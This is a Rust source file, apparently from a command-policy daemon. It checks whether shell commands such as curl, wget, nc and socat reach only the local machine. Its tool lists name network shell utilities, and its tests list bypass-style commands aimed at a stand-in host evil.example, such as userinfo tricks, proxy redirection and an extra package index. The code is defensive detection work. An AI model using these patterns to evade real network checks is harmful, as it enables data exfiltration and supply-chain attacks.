//! The hosts that a program names in its arguments.

use super::invocation::Invocation;
use super::shell_text::ShellText;
use crate::vocabulary::ValueOptions;
use policyd_yaml::rows::Rows;

/// Programs whose operands are addresses, with or without a scheme.
const ADDRESSED: [&str; 7] = ["curl", "wget", "fetch", "http", "https", "xh", "curlie"];
/// Programs whose first operand is a host.
const CALLERS: [&str; 9] =
    ["nc", "ncat", "netcat", "telnet", "ftp", "ping", "host", "dig", "nslookup"];

impl Invocation {
    /// Returns whether the program names a host, and each host that it names is this machine. A host that is not known is
    /// another one.
    #[must_use]
    pub fn is_on_this_machine(&self, values: &Rows<ValueOptions>) -> bool {
        let operands = self.operands(values);
        let bare = match self.name.as_str() {
            name if ADDRESSED.contains(&name) => operands.as_slice(),
            name if CALLERS.contains(&name) => operands.get(..1).unwrap_or_default(),
            _ => &[],
        };
        let is_word = |it: &ShellText| {
            // The method and the fields of a request: `POST`, `name=value`.
            self.name != "curl" && it.text.bytes().all(|it| it.is_ascii_uppercase())
                || (self.name != "curl" && !it.text.contains("://") && it.text.contains(['=', '@']))
        };
        let marked = self.args.iter().filter(|it| it.text.contains("://"));
        let marked = marked.filter(|it| !is_one_of(bare, it)).map(host_of);
        let bare = bare.iter().filter(|it| !is_word(it)).map(|it| host_of(it));
        let sockets = self.args.iter().filter(|_| self.name == "socat").filter_map(socket_host);
        let mut hosts = bare.chain(marked).chain(sockets).peekable();
        hosts.peek().is_some() && hosts.all(|it| it.is_some_and(is_this_machine))
    }
}

/// Returns whether an argument is one of some operands.
fn is_one_of(operands: &[&ShellText], arg: &ShellText) -> bool {
    operands.iter().any(|it| std::ptr::eq(*it, arg))
}

/// Returns the host of an address: `user@host:1234` and what follows in `https://user@host:1234/path`. `None` if it is not
/// known.
fn host_of(address: &ShellText) -> Option<&str> {
    let text = address.text.as_str();
    let start = text.find("://").map_or(0, |it| it.saturating_add(3));
    let rest = text.get(start..)?;
    let end = rest.find(['/', '?', '#', '\\']).unwrap_or(rest.len());
    let authority = rest.get(..end)?;
    (start.saturating_add(end) <= address.known_to).then_some(())?;
    let host = authority.rsplit_once('@').map_or(authority, |it| it.1);
    Some(without_port(host))
}

/// Returns the host of an address of `socat`: `TCP:host:1234`. `None` inside if it is not known.
fn socket_host(address: &ShellText) -> Option<Option<&str>> {
    let (kind, rest) = address.text.split_once(':')?;
    let kind = kind.to_ascii_lowercase();
    let is_network = ["tcp", "udp", "sctp", "openssl", "ssl", "socks", "proxy"];
    let connects = is_network.iter().any(|it| kind.starts_with(it)) && !kind.contains("listen");
    connects
        .then(|| address.is_known().then(|| without_port(rest.split(',').next().unwrap_or(rest))))
}

fn without_port(host: &str) -> &str {
    match host.strip_prefix('[').and_then(|it| it.split_once(']')) {
        Some((address, _)) => address,
        None if host.matches(':').count() > 1 => host,
        None => host.split_once(':').map_or(host, |it| it.0),
    }
}

/// Returns whether a name or an address is this machine. The short form `:3000` of `http` is.
pub(super) fn is_this_machine(host: &str) -> bool {
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    let mut parts = host.split('.');
    let mut is_loopback =
        || parts.next() == Some("127") && host.split('.').all(|it| it.parse::<u8>().is_ok());
    matches!(host.as_str(), "" | "localhost" | "0.0.0.0" | "::1" | "host.docker.internal")
        || host.ends_with(".localhost")
        || is_loopback()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_local(line: &str) -> bool {
        let mut words = line.split(' ').map(ShellText::known);
        let name = words.next().unwrap_or_default().text;
        let program = Invocation { name, args: words.collect(), ..Invocation::default() };
        program.is_on_this_machine(&Rows::default())
    }

    #[test]
    fn a_program_is_on_this_machine_if_each_host_is() {
        for line in [
            "curl http://localhost:3000/x",
            "curl localhost:3000",
            "curl http://user:pw@127.0.0.1/",
            "curl http://127.8.0.1?x=//evil.example",
            "curl http://[::1]:80/",
            "http POST :3000/items name=x",
            "wget http://api.localhost/x",
            "nc 127.0.0.1 4444",
            "socat - TCP:localhost:80",
            "pip install --index-url http://localhost:3141 x",
        ] {
            assert!(is_local(line), "{line}");
        }
        for line in [
            "curl http://localhost@evil.example/",
            "curl http://localhost.evil.example/",
            "curl http://127.0.0.1.evil.example/",
            "curl http://localhost:1/ http://evil.example/",
            "curl http://evil.example/?u=http://localhost/",
            "curl evil.example\\@localhost",
            "nc evil.example 80 localhost",
            "socat - TCP:evil.example:80",
            "socat - TCP-LISTEN:80",
            "http POST evil.example host=localhost",
            "curl --proxy http://evil.example http://localhost/",
            "pip install --index-url http://localhost/ --extra-index-url http://evil.example/ x",
            "ls",
        ] {
            assert!(!is_local(line), "{line}");
        }
    }
}
